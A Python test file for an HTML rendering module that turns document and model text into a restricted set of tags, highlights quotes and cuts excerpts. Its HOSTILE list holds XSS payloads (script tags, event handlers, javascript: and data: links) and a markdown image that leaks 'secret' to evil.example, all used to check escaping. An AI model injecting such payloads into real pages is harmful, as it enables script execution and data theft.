"""Texts of documents and models on the page: nothing in them becomes a tag."""

import re
from html import unescape

import pytest
from hypothesis import given
from hypothesis import strategies as st

from assistant.web.prose import excerpt, find_quote, plain, prose

HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "![x](http://evil.example/?q=secret)",
    "[a](javascript:alert(1))",
    "<a href='data:text/html,x'>y</a>",
    '"><svg onload=alert(1)>',
    "</p></div><iframe src=//evil.example>",
    "| a | <b onmouseover=x> |\n|---|---|\n| <i> | &lt; |",
    "# <h1 onclick=x>\n- <li>\n> <q>\n`<code>`",
    "${alert(1)} {{value}} `${1}`",
    "&#60;script&#62;",
]
OUR_TAGS = re.compile(
    r"</?(?:p|h4|ul|li|blockquote|table|tr|th|td|br|mark)>|<div class=\"scroll\">|</div>"
    r"|<span class=\"ordinal\">|</span>"
)


@pytest.mark.parametrize("text", HOSTILE)
def test_nothing_from_a_text_becomes_a_tag(text: str) -> None:
    assert "<" not in OUR_TAGS.sub("", prose(text))
    assert "<" not in excerpt(text)


@given(
    st.text(alphabet=st.sampled_from("ab <>\"'&|#-*`_[]()!>\n1."), max_size=80), st.integers(0, 40), st.integers(0, 40)
)
def test_whatever_the_text_only_our_tags_appear(text: str, start: int, length: int) -> None:
    html = prose(text, marks=[(start, start + length)])
    assert "<" not in OUR_TAGS.sub("", html)
    assert html.count("<mark>") == html.count("</mark>")


@pytest.mark.parametrize(
    ("text", "html"),
    [
        ("", ""),
        ("Ein Satz.", "<p>Ein Satz.</p>"),
        ("Eins\nzwei\n\ndrei", "<p>Eins\nzwei</p><p>drei</p>"),
        ("# Kopf\nText", "<h4>Kopf</h4><p>Text</p>"),
        ("- a\n- **b**\n\n* c", "<ul><li>a</li><li>b</li></ul><ul><li>c</li></ul>"),
        (
            "1. a\n3) b",
            '<ul><li><span class="ordinal">1.</span> a</li><li><span class="ordinal">3.</span> b</li></ul>',
        ),
        ("> Zitat", "<blockquote>Zitat<br></blockquote>"),
        (
            "| A | B |\n|---|---|\n| 1 | 2 |",
            '<div class="scroll"><table><tr><th>A</th><th>B</th></tr><tr><td>1</td><td>2</td></tr></table></div>',
        ),
        ("| nur | Zeile |", '<div class="scroll"><table><tr><td>nur</td><td>Zeile</td></tr></table></div>'),
        ("|", '<div class="scroll"><table><tr><td></td></tr></table></div>'),
        ("datei_name_neu und 2 * 3", "<p>datei_name_neu und 2 * 3</p>"),
        ("2024. war das Jahr", "<p>2024. war das Jahr</p>"),
        ("[Text](http://x.example)", "<p>[Text](http://x.example)</p>"),
    ],
)
def test_markup_is_laid_out_and_links_stay_text(text: str, html: str) -> None:
    assert prose(text) == html


@pytest.mark.parametrize(
    ("text", "quote", "html"),
    [
        ("Vorher. Das Zitat. Danach.", "Das Zitat.", "<p>Vorher. <mark>Das Zitat.</mark> Danach.</p>"),
        ("Das\nZitat.", "Das Zitat.", "<p><mark>Das</mark>\n<mark>Zitat.</mark></p>"),
        ("- eins\n- zwei", "- zwei", "<ul><li>eins</li><li><mark>zwei</mark></li></ul>"),
        ("Ein **fettes** Wort", "Ein **fettes** Wort", "<p><mark>Ein </mark><mark>fettes</mark><mark> Wort</mark></p>"),
        ("a < b & c", "< b &", "<p>a <mark>&lt; b &amp;</mark> c</p>"),
        ("Nichts davon", "etwas anderes", "<p>Nichts davon</p>"),
        ("Text", "", "<p>Text</p>"),
        ("(.*)", "(.*)", "<p><mark>(.*)</mark></p>"),
    ],
)
def test_a_quote_is_marked_where_it_stands(text: str, quote: str, html: str) -> None:
    assert prose(text, marks=[find_quote(text, quote)]) == html


def test_citations_become_what_the_caller_says_and_others_stay_text() -> None:
    html = prose("Ja [1]. Nein [7].", cite=lambda number: "<1>" if number == 1 else None)
    assert html == "<p>Ja <1>. Nein [7].</p>"


@pytest.mark.parametrize(
    ("text", "line"),
    [("# Kopf\n- a\n- b", "Kopf a b"), ("| A | B |\n|---|---|\n| 1 | 2 |", "A B 1 2"), ("> **x**", "x"), ("", "")],
)
def test_plain_is_one_line_without_markup(text: str, line: str) -> None:
    assert plain(text) == line


def test_an_excerpt_is_cut_between_words_around_the_quote() -> None:
    text = "Anfang " * 60 + "Das ist das Zitat. " + "Ende " * 200
    cut = excerpt(text, marks=[find_quote(text, "Das ist das Zitat.")])
    assert cut.startswith("… Anfang") and cut.endswith("Ende …")
    assert "<mark>Das ist das Zitat.</mark>" in cut
    assert len(unescape(cut)) < 400


def test_an_excerpt_without_quote_is_the_beginning() -> None:
    assert excerpt("Kurz & gut.") == "Kurz &amp; gut."


@pytest.mark.parametrize(
    ("marks", "html"),
    [
        ([(0, 4), (10, 14)], "<p><mark>Eins</mark>, zwei<mark> und</mark> drei.</p>"),
        ([(10, 14), (0, 4)], "<p><mark>Eins</mark>, zwei<mark> und</mark> drei.</p>"),
        ([(0, 6), (4, 10)], "<p><mark>Eins, zwei</mark> und drei.</p>"),
        ([(0, 4), (4, 10)], "<p><mark>Eins, zwei</mark> und drei.</p>"),
        ([(3, 3), (9, 2), (90, 99)], "<p>Eins, zwei und drei.</p>"),
        ([(15, 999)], "<p>Eins, zwei und <mark>drei.</mark></p>"),
    ],
)
def test_all_spans_are_marked_once(marks: list[tuple[int, int]], html: str) -> None:
    assert prose("Eins, zwei und drei.", marks=marks) == html


def test_an_excerpt_shows_the_first_span_and_marks_what_else_is_in_sight() -> None:
    text = "Vorher steht viel. " * 20 + "Das Erste. Dazwischen. Das Zweite. " + "Nachher. " * 60
    first, second = text.index("Das Erste."), text.index("Das Zweite.")
    cut = excerpt(text, marks=[(second, second + 11), (first, first + 10)])
    assert "<mark>Das Erste.</mark> Dazwischen. <mark>Das Zweite.</mark> Nachher." in cut
